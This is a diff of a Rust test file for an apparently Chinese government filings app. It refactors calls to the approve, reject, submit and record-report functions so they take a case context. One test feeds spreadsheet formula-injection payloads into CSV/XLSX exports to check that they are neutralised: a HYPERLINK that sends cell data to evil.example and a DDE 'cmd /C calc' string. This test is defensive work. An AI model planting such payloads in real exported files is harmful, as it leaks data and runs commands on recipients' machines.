@@ -1,7 +1,7 @@
 //! Reports on the real application: the filings report for upward reporting (报备) as CSV and XLSX,
 //! and the monthly monitoring report (Art. 34) as a page and a workbook, with its figures, its
 //! rectification list (Art. 9, Art. 29) and who may read what.
-use crate::filings::{draft, meta, open_form};
+use crate::filings::{draft, open_form};
 use crate::helpers::{TestApp, fixed_now, location, testid_text};
 use app::domain::deadline;
 use app::domain::filing::FilingKind;
@@ -79,7 +79,7 @@ async fn received_at(
     form.collective_decision_on = "2026-08-28".into();
     form.leader_consent_on = "2026-09-01".into();
     let f = draft(app, who, FilingKind::Open, Some(platform), None, form).await;
-    filings::submit(&app.db, who, meta(), f.id, at)
+    filings::submit(&app.case_at(who, at), f.id)
         .await
         .unwrap()
 }
@@ -104,14 +104,7 @@ async fn november(app: &TestApp) -> November {
     )
     .await;
     assert_eq!(approved.due_on, Some(day(2026, 11, 5)));
-    filings::approve(
-        &app.db,
-        &reviewer,
-        meta(),
-        approved.id,
-        "",
-        china(2026, 11, 4, 10, 0),
-    )
+    filings::approve(&app.case_at(&reviewer, china(2026, 11, 4, 10, 0)), approved.id, "")
     .await
     .unwrap();
     let report = UpwardReport {
@@ -119,14 +112,7 @@ async fn november(app: &TestApp) -> November {
         reported_to: "重庆市人民政府办公厅".into(),
         reference: "石府办报〔2026〕12号".into(),
     };
-    filings::record_report(
-        &app.db,
-        &reviewer,
-        meta(),
-        approved.id,
-        report,
-        china(2026, 11, 5, 9, 0),
-    )
+    filings::record_report(&app.case_at(&reviewer, china(2026, 11, 5, 9, 0)), approved.id, report)
     .await
     .unwrap();
 
@@ -139,14 +125,7 @@ async fn november(app: &TestApp) -> November {
     )
     .await;
     assert_eq!(rejected.due_on, Some(day(2026, 11, 12)));
-    filings::reject(
-        &app.db,
-        &reviewer,
-        meta(),
-        rejected.id,
-        "与已有账号功能重复",
-        china(2026, 11, 16, 9, 0),
-    )
+    filings::reject(&app.case_at(&reviewer, china(2026, 11, 16, 9, 0)), rejected.id, "与已有账号功能重复")
     .await
     .unwrap();
 
@@ -615,14 +594,7 @@ async fn october(app: &TestApp) {
     )
     .await;
     assert_eq!(on_time.due_on, Some(day(2026, 10, 15)));
-    filings::approve(
-        &app.db,
-        &reviewer,
-        meta(),
-        on_time.id,
-        "",
-        china(2026, 10, 15, 16, 0),
-    )
+    filings::approve(&app.case_at(&reviewer, china(2026, 10, 15, 16, 0)), on_time.id, "")
     .await
     .unwrap();
     // Same day, returned a day late, resubmitted in November (a November receipt).
@@ -634,23 +606,10 @@ async fn october(app: &TestApp) {
         china(2026, 10, 12, 11, 0),
     )
     .await;
-    filings::return_for_correction(
-        &app.db,
-        &reviewer,
-        meta(),
-        returned.id,
-        "补充集体决策材料",
-        china(2026, 10, 16, 9, 0),
-    )
+    filings::return_for_correction(&app.case_at(&reviewer, china(2026, 10, 16, 9, 0)), returned.id, "补充集体决策材料")
     .await
     .unwrap();
-    let resubmitted = filings::submit(
-        &app.db,
-        &submitter,
-        meta(),
-        returned.id,
-        china(2026, 11, 2, 9, 0),
-    )
+    let resubmitted = filings::submit(&app.case_at(&submitter, china(2026, 11, 2, 9, 0)), returned.id)
     .await
     .unwrap();
     assert_eq!(resubmitted.due_on, Some(day(2026, 11, 5)));
@@ -664,14 +623,7 @@ async fn october(app: &TestApp) {
     )
     .await;
     assert_eq!(september.due_on, Some(day(2026, 9, 24)));
-    filings::reject(
-        &app.db,
-        &reviewer,
-        meta(),
-        september.id,
-        "不符合要求",
-        china(2026, 10, 9, 10, 0),
-    )
+    filings::reject(&app.case_at(&reviewer, china(2026, 10, 9, 10, 0)), september.id, "不符合要求")
     .await
     .unwrap();
     // Received Monday 26 October, due the 29th, never decided.
@@ -694,14 +646,7 @@ async fn october(app: &TestApp) {
     )
     .await;
     assert_eq!(later.due_on, Some(day(2026, 11, 3)));
-    filings::approve(
-        &app.db,
-        &reviewer,
-        meta(),
-        later.id,
-        "",
-        china(2026, 11, 2, 10, 0),
-    )
+    filings::approve(&app.case_at(&reviewer, china(2026, 11, 2, 10, 0)), later.id, "")
     .await
     .unwrap();
 }
@@ -1389,14 +1334,7 @@ async fn formulas_in_a_filing_reach_the_filings_report_csv_neutralised_and_the_x
     let (submitter, reviewer) = (app.user("submitter").await, app.user("reviewer").await);
     let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
     let f = received_at(&app, &submitter, "weibo", name, china(2026, 11, 2, 10, 0)).await;
-    filings::approve(
-        &app.db,
-        &reviewer,
-        meta(),
-        f.id,
-        "",
-        china(2026, 11, 4, 10, 0),
-    )
+    filings::approve(&app.case_at(&reviewer, china(2026, 11, 4, 10, 0)), f.id, "")
     .await
     .unwrap();
     let report = UpwardReport {
@@ -1404,14 +1342,7 @@ async fn formulas_in_a_filing_reach_the_filings_report_csv_neutralised_and_the_x
         reported_to: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
         reference: "－1+1".into(),
     };
-    filings::record_report(
-        &app.db,
-        &reviewer,
-        meta(),
-        f.id,
-        report,
-        china(2026, 11, 5, 9, 0),
-    )
+    filings::record_report(&app.case_at(&reviewer, china(2026, 11, 5, 9, 0)), f.id, report)
     .await
     .unwrap();
     let client = app.signed_in("reviewer").await;
